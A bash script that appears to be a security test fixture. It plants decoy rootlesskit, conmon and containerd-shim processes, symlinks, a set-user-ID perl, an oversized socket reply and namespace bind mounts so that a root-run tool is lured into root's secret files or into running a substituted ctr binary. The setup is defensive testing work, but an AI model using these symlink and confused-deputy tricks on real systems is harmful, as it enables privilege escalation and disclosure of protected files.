#!/bin/bash
# What a user can do to have root look where he may not. Runs as bob, with ec2-user's RootlessKit on the host, and of root's:
# the folders /root/secret-1, -2 and -4, the file /etc/secret-3, and /usr/local/bin/perl-as-root (set-user-ID).
set -eu
cd "$HOME"
their=/run/user/1000/containerd-rootless own=/run/user/1001
for name in rootlesskit conmon containerd-shim; do cp "$(command -v perl)" $name; done
mkdir as-root
for name in rootlesskit conmon; do ln -s /usr/local/bin/perl-as-root as-root/$name; done

# PROGRAM ARGUMENT…: a process of that name with these arguments, which does nothing.
pretend() {
  program=$1
  shift
  "$program" -e sleep -- "$@" </dev/null >/dev/null 2>&1 &
}

# State directories: a folder of root's, by its name, by a symbolic link, and named by a process of root's; a neighbour's.
pretend ./rootlesskit --state-dir=/root/secret-1
ln -s /root/secret-1 link
pretend ./rootlesskit --state-dir="$HOME/link"
pretend as-root/rootlesskit --state-dir=/root/secret-1
pretend ./rootlesskit --state-dir=$their

# His own, with a neighbour's socket in it, and with one whose answer is long.
mkdir $own/borrowed $own/endless
ln -s $their/api.sock $own/borrowed/api.sock
pretend ./rootlesskit --state-dir=$own/borrowed
perl -MIO::Socket::UNIX -e '
  $SIG{PIPE} = "IGNORE";
  my $socket = IO::Socket::UNIX->new(Local => $ARGV[0], Listen => 5) or die $!;
  while (my $client = $socket->accept) {
    print $client "HTTP/1.0 200 OK\r\n\r\n[";
    my $much = "9," x 500000;
    for (1 .. 40) { print $client $much or last }
    close $client;
  }' $own/endless/api.sock </dev/null >/dev/null 2>&1 &
pretend ./rootlesskit --state-dir=$own/endless

# One with a child, whose networks are root's files: by a symbolic link, and below one.
mkdir $own/kit .config .config/cni .config/cni/net.d
ln -s /root/secret-2/his/state.json .config/cni/net.d/nerdctl-file.conflist
ln -s /root/secret-2/his .config/cni/net.d/folder
./rootlesskit -e '
  my $child = fork;
  exec { "/proc/self/exe" } "/proc/self/exe", "-e", "sleep" if !$child;
  open my $file, ">", "$ARGV[0]/child_pid";
  print $file $child;
  close $file;
  sleep' -- $own/kit --state-dir=$own/kit </dev/null >/dev/null 2>&1 &

# Records of runtimes and engines that are root's files, by symbolic links.
ln -s /root/secret-2 $own/runc
mkdir -p $own/crun/his
echo '{}' >$own/crun/his/status
ln -s /root/secret-2/his/config.json $own/crun/his/config.json
pretend as-root/conmon -b /root/secret-4/overlay-containers/his/userdata

# In a mount namespace of his own: a file of root's in the place of others, and a program of his in the place of ctr.
cat >ctr <<'SH'
#!/bin/sh
touch /tmp/ctr-was-run
SH
chmod 755 ctr
cat >inside <<'SH'
ctr=$(command -v ctr)
mount --bind /etc/secret-3 /etc/hosts
mount --bind ./ctr "$ctr"
mount -t tmpfs tmpfs /run
mkdir -p /run/runc/his /run/crun/his
for record in /run/runc/his/state.json /run/crun/his/config.json; do
  touch $record
  mount --bind /etc/secret-3 $record
done
echo '{}' >/run/crun/his/status
exec ./containerd-shim -MIO::Socket::UNIX -e '
  my $socket = IO::Socket::UNIX->new(Local => "/run/his.sock", Listen => 5) or die $!;
  open my $ready, ">", "ready";
  close $ready;
  sleep' -- -namespace his -address /run/his.sock
SH
unshare --user --map-root-user --mount sh ./inside </dev/null >/dev/null 2>&1 &
until [ -e ready ] && [ -s $own/kit/child_pid ] && [ -S $own/endless/api.sock ]; do sleep 0.02; done
